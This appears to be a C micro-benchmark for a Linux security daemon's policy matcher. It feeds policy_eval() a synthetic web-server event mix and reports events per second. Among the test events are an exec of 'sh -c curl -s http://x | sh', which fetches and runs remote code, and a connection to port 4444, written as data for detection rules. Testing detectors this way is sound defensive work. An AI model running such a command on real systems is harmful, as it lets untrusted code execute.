// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Micro-benchmark of the policy matcher: events per second through
 * policy_eval() with a policy (policies/default.yaml unless given) over a
 * synthetic mix shaped like a busy web server: mostly file opens (reads,
 * log appends), some exec/fork/exit, connects, renames and unlinks, from a
 * process tree kept in a real process table.  Most events match no rule,
 * which is the slow path: every rule indexed for the type is tried.
 *
 * Reports CPU time of this process, so that a busy machine does not skew it.
 * Build and run from the source tree, after `make`:
 *   cc -O2 -g -std=gnu11 -D_GNU_SOURCE -Ibuild -Ibpf -Ishared -Isysguardd \
 *      tests/bench/policy_bench.c build/libsgd.a $(pkg-config --libs yaml-0.1 json-c) \
 *      -o build/tests/policy_bench
 *   build/tests/policy_bench [POLICY] [EVENTS]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include "policy.h"
#include "proctable.h"

struct proc {
	uint32_t pid, ppid, uid;
	const char *exe;
	const char *argv;
	size_t argv_len;
};

#define A(s) s, sizeof(s)
static const struct proc tree[] = {
	{ 1, 0, 0, "/usr/lib/systemd/systemd", A("/sbin/init\0") },
	{ 100, 1, 0, "/usr/sbin/sshd", A("sshd: /usr/sbin/sshd -D\0") },
	{ 200, 100, 1000, "/usr/bin/bash", A("-bash\0") },
	{ 300, 1, 0, "/usr/sbin/nginx", A("nginx: master process\0") },
	{ 301, 300, 33, "/usr/sbin/nginx", A("nginx: worker process\0") },
	{ 310, 1, 33, "/usr/sbin/php-fpm8.2", A("php-fpm: pool www\0") },
	{ 400, 1, 0, "/usr/sbin/cron", A("/usr/sbin/cron\0-f\0") },
	{ 401, 400, 0, "/usr/bin/dash", A("/bin/sh\0-c\0run-parts /etc/cron.hourly\0") },
	{ 500, 1, 1000, "/usr/bin/python3.11", A("python3\0app.py\0") },
	{ 600, 1, 0, "/usr/sbin/rsyslogd", A("/usr/sbin/rsyslogd\0-n\0") },
};

static struct sg_event base(const struct proctable *pt, int type, uint32_t pid)
{
	const struct proc_entry *e = proctable_get(pt, pid);
	struct sg_event ev;

	memset(&ev, 0, sizeof(ev));
	ev.type = type;
	ev.proc.pid = ev.proc.tid = pid;
	ev.proc.ppid = e ? e->ppid : 1;
	ev.proc.uid = ev.proc.gid = e ? e->uid : 0;
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "%s",
		 e && e->exe ? strrchr(e->exe, '/') + 1 : "?");
	ev.proc.exe = e ? e->exe : NULL;
	ev.proc.entry = e;
	ev.has_result = true;
	return ev;
}

static struct sg_event op(const struct proctable *pt, uint32_t pid, const char *path, bool write,
			  uint32_t flags)
{
	struct sg_event ev = base(pt, SG_EV_OPEN, pid);

	ev.file.path = path;
	ev.file.path_resolved = true;
	ev.file.write = write;
	ev.file.flags = flags;
	return ev;
}

static struct sg_event conn(const struct proctable *pt, uint32_t pid, const char *addr,
			    uint16_t port)
{
	struct sg_event ev = base(pt, SG_EV_CONNECT, pid);

	ev.net.family = AF_INET;
	inet_pton(AF_INET, addr, ev.net.addr);
	ev.net.port = port;
	ev.net.protocol = IPPROTO_TCP;
	ev.net.sock_type = SOCK_STREAM;
	return ev;
}

static struct sg_event ex(const struct proctable *pt, uint32_t pid, const char *exe,
			  const char *argv, size_t len)
{
	struct sg_event ev = base(pt, SG_EV_EXEC, pid);

	ev.proc.exe = exe;
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "%s", strrchr(exe, '/') + 1);
	ev.exec.filename = exe;
	ev.exec.argv = argv;
	ev.exec.argv_len = len;
	ev.exec.argc = 2;
	return ev;
}

/* One period of the mix: 100 events. */
static size_t make_mix(const struct proctable *pt, struct sg_event *v)
{
	static const char *const reads[] = {
		"/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/proc/self/stat",
		"/var/www/html/index.php", "/etc/passwd", "/usr/share/zoneinfo/UTC",
		"/etc/nsswitch.conf", "/var/www/html/wp-includes/load.php", "/etc/hosts",
		"/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0", "/home/u/.bashrc",
		"/var/lib/php/sessions/sess_abc", "/sys/fs/cgroup/cpu.max", "/etc/ssl/certs/ca.pem",
	};
	static const uint32_t readers[] = { 301, 310, 200, 500, 401 };
	size_t n = 0;

	for (int i = 0; i < 56; i++)
		v[n++] = op(pt, readers[i % 5], reads[i % 14], false, O_RDONLY);
	for (int i = 0; i < 4; i++)
		v[n++] = op(pt, 100, "/etc/shadow", false, O_RDONLY);
	for (int i = 0; i < 10; i++)
		v[n++] = op(pt, 301, "/var/log/nginx/access.log", true, O_WRONLY | O_APPEND);
	for (int i = 0; i < 4; i++)
		v[n++] = op(pt, 310, "/var/lib/php/sessions/sess_new", true,
			    O_WRONLY | O_CREAT | O_TRUNC);
	for (int i = 0; i < 2; i++)
		v[n++] = op(pt, 200, "/home/u/.bash_history", true, O_WRONLY | O_APPEND);
	for (int i = 0; i < 3; i++) {
		v[n] = base(pt, SG_EV_RENAME, 310);
		v[n].file.path = "/var/lib/php/sessions/tmp";
		v[n++].file.new_path = "/var/lib/php/sessions/sess_x";
	}
	v[n] = base(pt, SG_EV_UNLINK, 600);
	v[n++].file.path = "/var/log/syslog.7.gz";
	v[n++] = ex(pt, 200, "/usr/bin/ls", A("ls\0-la\0"));
	v[n++] = ex(pt, 401, "/usr/bin/run-parts", A("run-parts\0/etc/cron.hourly\0"));
	v[n++] = ex(pt, 200, "/usr/bin/git", A("git\0status\0"));
	v[n++] = ex(pt, 500, "/usr/bin/dash", A("sh\0-c\0curl -s http://x | sh\0"));
	v[n++] = ex(pt, 200, "/usr/bin/grep", A("grep\0-r\0foo\0"));
	for (int i = 0; i < 4; i++) {
		v[n] = base(pt, i % 2 ? SG_EV_FORK : SG_EV_EXIT, 200);
		v[n].has_result = false;
		v[n++].fork.child_pid = 900;
	}
	for (int i = 0; i < 4; i++)
		v[n++] = conn(pt, 301, "127.0.0.1", 9000);
	v[n++] = conn(pt, 500, "10.0.0.5", 5432);
	v[n++] = conn(pt, 500, "93.184.216.34", 443);
	v[n++] = conn(pt, 310, "10.0.0.6", 3306);
	v[n++] = conn(pt, 200, "203.0.113.9", 22);
	v[n++] = conn(pt, 500, "203.0.113.7", 4444);
	while (n < 100)
		v[n++] = op(pt, 301, "/var/www/html/style.css", false, O_RDONLY);
	return n;
}

static double now(clockid_t clk)
{
	struct timespec ts;

	clock_gettime(clk, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	const char *path = argc > 1 ? argv[1] : "policies/default.yaml";
	unsigned long total = argc > 2 ? strtoul(argv[2], NULL, 10) : 5000000;
	unsigned long actions[SG_ACT_BLOCK + 1] = { 0 };
	struct policy_diag d;
	struct policy *p = NULL;
	struct proctable *pt;
	struct sg_event mix[100], ev;
	size_t n;
	double t0, t1, c0, c1;

	policy_diag_init(&d);
	if (policy_load(path, &p, &d) < 0) {
		policy_diag_print(&d, stderr);
		return 1;
	}
	policy_diag_fini(&d);
	pt = proctable_new(1024);
	if (!pt)
		return 1;
	for (size_t i = 0; i < sizeof(tree) / sizeof(tree[0]); i++) {
		struct sg_event f;

		memset(&f, 0, sizeof(f));
		f.type = SG_EV_FORK;
		f.proc.pid = tree[i].ppid ? tree[i].ppid : 1;
		f.fork.child_pid = tree[i].pid;
		if (tree[i].ppid)
			proctable_update(pt, &f);
		memset(&f, 0, sizeof(f));
		f.type = SG_EV_EXEC;
		f.proc.pid = tree[i].pid;
		f.proc.ppid = tree[i].ppid;
		f.proc.uid = tree[i].uid;
		f.proc.exe = tree[i].exe;
		f.exec.filename = tree[i].exe;
		f.exec.argv = tree[i].argv;
		f.exec.argv_len = tree[i].argv_len;
		f.has_result = true;
		proctable_update(pt, &f);
	}
	n = make_mix(pt, mix);
	for (size_t i = 0; i < n; i++) {
		ev = mix[i];
		actions[policy_eval(p, &ev, pt)]++;
	}
	printf("mix of %zu events: allow %lu, log %lu, alert %lu, block %lu\n", n,
	       actions[SG_ACT_ALLOW], actions[SG_ACT_LOG], actions[SG_ACT_ALERT],
	       actions[SG_ACT_BLOCK]);
	t0 = now(CLOCK_MONOTONIC);
	c0 = now(CLOCK_PROCESS_CPUTIME_ID);
	for (unsigned long i = 0; i < total; i++) {
		ev = mix[i % n];
		policy_eval(p, &ev, pt);
	}
	c1 = now(CLOCK_PROCESS_CPUTIME_ID);
	t1 = now(CLOCK_MONOTONIC);
	/* CPU time: what the matcher costs, whatever else the machine is doing */
	printf("%s: %lu events in %.3f s CPU (%.3f s wall): %.0f events/s, %.0f ns/event\n",
	       path, total, c1 - c0, t1 - t0, (double)total / (c1 - c0),
	       (c1 - c0) * 1e9 / (double)total);
	proctable_free(pt);
	policy_free(p);
	return 0;
}
